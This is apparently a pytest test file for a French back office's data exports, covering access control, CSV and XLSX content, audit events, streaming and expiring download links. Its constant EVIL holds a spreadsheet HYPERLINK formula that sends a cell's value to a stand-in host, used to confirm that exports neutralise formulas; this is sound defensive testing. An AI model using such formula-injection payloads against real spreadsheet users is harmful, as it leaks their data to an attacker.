"""Exports for managers and admins: who may, what they hold, formula safety, audit, streaming, the XLSX job."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import timedelta

import psycopg
import pytest
from openpyxl import load_workbook
from redis import Redis
from rq import SimpleWorker
from rq.serializers import JSONSerializer
from sqlalchemy import select, text

from jobs.exports import export_queue
from models.audit.entities import AuditEvent
from models.base import utcnow
from models.outbox.entities import Channel, OutboxMessage, OutboxStatus
from models.reports.entities import ExportJob, ExportStatus
from models.requests.entities import HospitalCoverageRequest, RequestStatus
from models.requests.workflow import local_today
from models.staff.entities import StaffRole
from tests.conftest import TEST_REDIS_URL
from tests.factories import make_member, make_staff
from tests.helpers import login_staff

from .support import MountedClient, csrf_from, local

EXPORTS = "/exports/"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Clinique")'


def export(client, **fields):
    """Post the export form (CSV unless told otherwise); returns the response, streamed."""
    data = {"kind": "requests", "export_format": "csv", "csrf_token": csrf_from(client, EXPORTS), **fields}
    return client.post(EXPORTS, data=data, buffered=False)


def csv_rows(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(codecs.BOM_UTF8), "a BOM lets spreadsheets read the accents"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def closed_request(session, coverage_request, agent):
    """A coverage request received on Monday 2 Nov 2026 and closed by ``agent`` on Thursday 5 Nov (3 working days)."""
    from datetime import datetime

    from models.formats import PARIS

    request = coverage_request(created_at=datetime(2026, 11, 2, 9, 30, tzinfo=PARIS))
    request.status, request.assigned_to_id = RequestStatus.DONE, agent.id
    request.claimed_at = datetime(2026, 11, 2, 10, 0, tzinfo=PARIS)
    request.closed_at = datetime(2026, 11, 5, 16, 0, tzinfo=PARIS)
    session.commit()
    return request


# -- who may ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [EXPORTS, "/mes-exports/"])
def test_agents_are_refused_the_export_pages(session, as_staff, agent, path):
    assert as_staff(agent).get(path).status_code == 403
    refused = session.scalars(select(AuditEvent).where(AuditEvent.action == "backoffice.refused")).all()
    assert [e.details["endpoint"] for e in refused] == [path.strip("/").replace("-", "_") + ".index"
                                                        if path == EXPORTS else "export_jobs.index_view"]


def test_agents_cannot_post_an_export(session, as_staff, agent):
    client = as_staff(agent)
    token = csrf_from(client, "/prises-en-charge/")  # a valid token of the agent's own session
    response = client.post(EXPORTS, data={"kind": "requests", "export_format": "csv", "csrf_token": token})
    assert response.status_code == 403
    assert session.scalar(select(AuditEvent).where(AuditEvent.action == "report.exported")) is None


@pytest.mark.parametrize("role", [StaffRole.MANAGER, StaffRole.ADMIN])
def test_managers_and_admins_export(session, as_staff, role, coverage_request):
    coverage_request()
    client = as_staff(make_staff(session, role))
    assert client.get(EXPORTS).status_code == 200
    response = export(client)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert len(csv_rows(response)) == 2


def test_queue_lists_link_to_the_exports_instead_of_a_capped_export(as_staff, manager, agent, coverage_request):
    coverage_request()
    page = as_staff(manager).get("/prises-en-charge/").get_data(as_text=True)
    assert "/exports/?kind=requests&amp;request_types=hospital_coverage" in page
    assert "/export/csv/" not in page
    response = as_staff(manager).get("/prises-en-charge/export/csv/")
    assert response.status_code == 302 and local(response.location).startswith("/exports/?kind=requests")


# -- content ----------------------------------------------------------------------------------------------


def test_requests_export_has_one_row_per_request_with_its_dates_and_time_to_close(
        session, as_staff, manager, agent, closed_request, member):
    rows = csv_rows(export(as_staff(manager), start="2026-11-01", end="2026-11-30"))
    assert rows[0] == ["Référence", "Type", "N° adhérent", "Bénéficiaire", "Reçue le", "Prise en charge le",
                       "Clôturée le", "Statut", "Échéance", "Agent", "Délai de traitement (jours ouvrés)"]
    beneficiary = closed_request.beneficiary
    assert rows[1:] == [[closed_request.reference, "Prise en charge hospitalière", member.number,
                         f"{beneficiary.first_name} {beneficiary.last_name.upper()}", "02/11/2026 09:30",
                         "02/11/2026 10:00", "05/11/2026 16:00", "Traitée",
                         closed_request.due_on.strftime("%d/%m/%Y"), agent.full_name, "3"]]


def test_requests_export_keeps_to_the_period_types_and_statuses(session, as_staff, manager, closed_request,
                                                                coverage_request):
    open_one = coverage_request()
    client = as_staff(manager)
    assert [r[0] for r in csv_rows(export(client))[1:]] == [closed_request.reference, open_one.reference]
    assert [r[0] for r in csv_rows(export(client, start="2026-11-03"))[1:]] == [open_one.reference]
    assert [r[0] for r in csv_rows(export(client, request_statuses="done"))[1:]] == [closed_request.reference]
    assert csv_rows(export(client, request_types="contact"))[1:] == []


def test_every_text_cell_is_formula_safe(session, as_staff, manager, agent, coverage_request, member):
    member.beneficiaries[1].first_name = EVIL
    agent.full_name = "@SUM(A1)"
    request = coverage_request()
    request.assigned_to_id, request.status = agent.id, RequestStatus.IN_PROGRESS
    session.add(OutboxMessage(channel=Channel.EMAIL, recipient="+33 6 00", subject="-1+1", related="=A1",
                              member_id=member.id, status=OutboxStatus.DEAD, last_error="\tTAB",
                              next_attempt_at=utcnow()))
    session.commit()
    client = as_staff(manager)
    row = csv_rows(export(client))[1]
    assert row[3].startswith("'" + EVIL) and row[9] == "'@SUM(A1)"
    outbox = csv_rows(export(client, kind="outbox"))[1]
    assert outbox[2:5] == ["'+33 6 00", "'-1+1", "'=A1"] and outbox[7] == "'\tTAB"


def test_outbox_and_audit_trail_exports(session, as_staff, manager, member):
    session.add(OutboxMessage(channel=Channel.SMS, recipient="+33606060606", subject="", related="PEC-2026-000001",
                              member_id=member.id, status=OutboxStatus.SENT, attempts=1, next_attempt_at=utcnow()))
    session.commit()
    client = as_staff(manager)
    outbox = csv_rows(export(client, kind="outbox", channels="sms"))
    assert outbox[0][:3] == ["Créé le", "Canal", "Destinataire"]
    assert [r[1:3] + r[4:7] for r in outbox[1:]] == [["SMS", "'+33606060606", "PEC-2026-000001", "Envoyé", "1"]]
    assert csv_rows(export(client, kind="outbox", channels="fax"))[1:] == []
    audit = csv_rows(export(client, kind="audit", action="report.exported"))
    assert audit[0][:4] == ["Date", "Auteur", "Auteur (id)", "Action"]
    # The two outbox exports, and this one (audited before it runs).
    assert [(r[1], r[2], r[3]) for r in audit[1:]] == [("staff", str(manager.id), "report.exported")] * 3


def test_every_export_is_audited_with_who_what_and_which_filters(session, as_staff, manager, closed_request):
    export(as_staff(manager), start="2026-11-01", end="2026-11-30", request_types="hospital_coverage",
           request_statuses="done").get_data()
    event = session.scalar(select(AuditEvent).where(AuditEvent.action == "report.exported"))
    assert event.actor_type == "staff" and event.actor_id == manager.id
    assert event.details == {"format": "csv", "kind": "requests", "start": "2026-11-01", "end": "2026-11-30",
                             "types": ["hospital_coverage"], "statuses": ["done"]}


@pytest.mark.parametrize(("fields", "field", "message"), [
    ({"start": "31/13/2026"}, "start", "Saisissez une date au format JJ/MM/AAAA."),
    ({"start": "2026-11-30", "end": "2026-11-01"}, "end", "La date de fin doit suivre la date de début."),
    ({"kind": "members"}, "kind", "Choisissez ce que vous voulez exporter."),
    ({"request_statuses": "lost"}, "request_statuses", "Statut inconnu."),
    ({"export_format": "pdf"}, "export_format", "Choisissez le format."),
])
def test_a_wrong_form_says_what_is_wrong_next_to_the_field_and_exports_nothing(session, as_staff, manager, fields,
                                                                               field, message):
    response = export(as_staff(manager), **fields)
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and f'id="{field}-error"' in html and message.replace("'", "&#39;") in html
    assert session.scalar(select(AuditEvent).where(AuditEvent.action == "report.exported")) is None


# -- streaming --------------------------------------------------------------------------------------------


def _many_requests(session, member, count: int) -> None:
    session.execute(text("""
        INSERT INTO hospital_coverage_request (reference, status, created_at, updated_at, due_on, member_id,
            beneficiary_id, establishment_name, start_on, no_coverage_notice_shown)
        SELECT 'PEC-2026-' || lpad(g::text, 7, '0'), 'done', now() - g * interval '1 minute', now(),
               current_date, :member, :beneficiary, 'Clinique ' || g, current_date, false
        FROM generate_series(1, :count) g"""),
        {"member": member.id, "beneficiary": member.beneficiaries[0].id, "count": count})
    session.commit()


def _copies_running(migrated_database) -> list[str]:
    dsn = migrated_database.replace("postgresql+psycopg://", "postgresql://")
    with psycopg.connect(dsn, autocommit=True) as conn:
        return [row[0] for row in conn.execute(
            "SELECT state FROM pg_stat_activity WHERE query LIKE 'COPY (SELECT%%' AND state <> 'idle' "
            "AND pid <> pg_backend_pid()")]  # idle: the COPY was the connection's last statement, now over


def test_the_csv_streams_the_first_bytes_leave_before_the_last_row_is_read(session, as_staff, manager, member,
                                                                           migrated_database):
    _many_requests(session, member, 60_000)  # about 9 MB: more than the socket buffers hold
    response = export(as_staff(manager))
    chunks = iter(response.response)
    first = next(chunks)
    assert first.startswith(codecs.BOM_UTF8 + "Référence;".encode()), "the header leaves before the query runs"
    second = next(chunks)
    assert second.startswith(b"PEC-2026-") and 60_000 < len(second) <= 70_000, "rows leave in 64 KB chunks"
    assert _copies_running(migrated_database) == ["active"], "the COPY is still running after the first rows left"
    total = len(first) + len(second) + sum(len(c) for c in chunks)
    response.close()
    assert total > 60_000 * 100 and _copies_running(migrated_database) == []


def test_a_download_stopped_halfway_ends_the_copy(session, as_staff, manager, member, migrated_database):
    _many_requests(session, member, 60_000)
    response = export(as_staff(manager))
    chunks = iter(response.response)
    next(chunks), next(chunks)
    response.close()  # the browser went away
    assert _copies_running(migrated_database) == []


# -- the XLSX job -----------------------------------------------------------------------------------------


def run_export_jobs(backoffice_config) -> None:
    """What ``mese worker`` does with the export queue, once."""
    from jobs import runtime

    runtime.configure(backoffice_config.jobs, backoffice_config.models)
    connection = Redis.from_url(TEST_REDIS_URL)
    queue = export_queue(backoffice_config.jobs, connection)
    SimpleWorker([queue], connection=connection, serializer=JSONSerializer).work(burst=True)


def test_xlsx_is_built_by_a_job_then_downloaded_by_its_requester(session, as_staff, manager, backoffice_config,
                                                                 closed_request, coverage_request, reload):
    coverage_request(establishment_name="x")
    client = as_staff(manager)
    response = export(client, export_format="xlsx", start="2026-11-01")
    job = session.scalar(select(ExportJob))
    assert response.status_code == 302 and local(response.location) == f"/exports/{job.id}/"
    assert job.status is ExportStatus.QUEUED and job.requested_by_id == manager.id
    page = client.get(f"/exports/{job.id}/").get_data(as_text=True)
    assert "En attente" in page and "Télécharger" in page and 'hidden' in page
    assert client.get(f"/exports/{job.id}/etat").json["download"] is None
    assert client.get(f"/exports/{job.id}/fichier").status_code == 409

    run_export_jobs(backoffice_config)
    job = reload(ExportJob, job.id)
    assert job.status is ExportStatus.DONE and job.rows_total == job.rows_done == 2
    state = client.get(f"/exports/{job.id}/etat").json
    assert state["progress"] == 100 and state["download"].endswith(f"/exports/{job.id}/fichier")
    download = client.get(f"/exports/{job.id}/fichier")
    assert download.status_code == 200 and download.headers["Content-Disposition"].startswith(
        "attachment; filename=demandes_2026-11-01.xlsx")
    sheet = load_workbook(io.BytesIO(download.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Référence" and rows[1][0] == closed_request.reference
    assert rows[1][4].strftime("%d/%m/%Y %H:%M") == "02/11/2026 09:30" and rows[1][10] == 3
    actions = [e.action for e in session.scalars(select(AuditEvent).order_by(AuditEvent.id))]
    assert "report.export_requested" in actions and "report.downloaded" in actions


def test_xlsx_cells_are_never_formulas(session, as_staff, manager, backoffice_config, coverage_request, member):
    member.beneficiaries[1].first_name = EVIL
    coverage_request()
    export(as_staff(manager), export_format="xlsx")
    run_export_jobs(backoffice_config)
    job = session.scalar(select(ExportJob))
    sheet = load_workbook(io.BytesIO(as_staff(manager).get(f"/exports/{job.id}/fichier").data)).active
    cell = sheet.cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value.startswith("'" + EVIL)


def test_an_expired_link_is_refused_and_audited(session, as_staff, manager, backoffice_config, coverage_request,
                                                reload):
    coverage_request()
    client = as_staff(manager)
    export(client, export_format="xlsx")
    run_export_jobs(backoffice_config)
    job = session.scalar(select(ExportJob))
    job.expires_at = utcnow() - timedelta(minutes=1)
    session.commit()
    response = client.get(f"/exports/{job.id}/fichier")
    assert response.status_code == 410 and "Ce lien de téléchargement a expiré" in response.get_data(as_text=True)
    assert client.get(f"/exports/{job.id}/etat").json["download"] is None
    refused = session.scalar(select(AuditEvent).where(AuditEvent.action == "report.download_refused"))
    assert refused.actor_id == manager.id and refused.details == {"reason": "expired"}


def test_another_manager_never_sees_someone_else_s_export(session, as_staff, manager, new_client, backoffice_config,
                                                          coverage_request):
    coverage_request()
    export(as_staff(manager), export_format="xlsx")
    run_export_jobs(backoffice_config)
    job = session.scalar(select(ExportJob))
    other = new_client()
    login_staff(other, make_staff(session, StaffRole.ADMIN))
    for path in (f"/exports/{job.id}/", f"/exports/{job.id}/etat", f"/exports/{job.id}/fichier"):
        assert other.get(path).status_code == 404
    assert f"n° {job.id}" not in other.get("/mes-exports/").get_data(as_text=True)
    assert f"n° {job.id}" in as_staff(manager).get("/mes-exports/").get_data(as_text=True)


def test_files_of_expired_exports_are_removed_by_the_next_job(session, as_staff, manager, backoffice_config,
                                                              coverage_request):
    from models.files import storage

    coverage_request()
    client = as_staff(manager)
    export(client, export_format="xlsx")
    run_export_jobs(backoffice_config)
    old = session.scalar(select(ExportJob))
    path = storage.export_path(old.file_name)
    assert path.exists()
    old.expires_at = utcnow() - timedelta(seconds=1)
    session.commit()
    export(client, export_format="xlsx")
    run_export_jobs(backoffice_config)
    session.expire_all()
    assert not path.exists() and session.get(ExportJob, old.id).file_name is None


# -- embedded mode ----------------------------------------------------------------------------------------


@pytest.fixture
def embedded_client(tmp_path, models_config):
    """The back office on a SQLite file and no Redis (the embedded mode), with a manager signed in."""
    from backoffice import create_app
    from backoffice.config import BackofficeConfig
    from jobs.config import JobsConfig
    from models.config import ModelsConfig
    from models.db import session_factory
    from models.schema import upgrade

    url = f"sqlite:///{tmp_path / 'embedded.db'}"
    upgrade(url)
    config = ModelsConfig(database_url=url, files_dir=tmp_path / "files", field_key=models_config.field_key)
    app = create_app(BackofficeConfig(models=config, jobs=JobsConfig(outbox_dir=tmp_path / "outbox"), testing=True))
    app.test_client_class = MountedClient
    client = app.test_client()
    session = session_factory(config)()
    manager = make_staff(session, StaffRole.MANAGER)
    login_staff(client, manager)
    yield client, session
    session.close()


def test_embedded_mode_streams_csv_and_builds_xlsx_in_process(embedded_client):
    from models.requests.workflow import start_request

    client, session = embedded_client
    member = make_member(session)
    member.beneficiaries[1].first_name = EVIL
    request = HospitalCoverageRequest(member_id=member.id, beneficiary_id=member.beneficiaries[1].id,
                                      establishment_name="Clinique", start_on=local_today(utcnow()))
    start_request(session, request, now=utcnow())
    session.commit()
    rows = csv_rows(export(client))
    assert rows[1][0] == request.reference and rows[1][3].startswith("'" + EVIL) and rows[1][7] == "Nouvelle"
    response = export(client, export_format="xlsx")
    job = session.scalar(select(ExportJob))
    assert job.status is ExportStatus.DONE, "built in the request's process, right after its commit"
    sheet = load_workbook(io.BytesIO(client.get(f"/exports/{job.id}/fichier").data)).active
    assert sheet.cell(row=2, column=1).value == request.reference
    assert response.status_code == 302

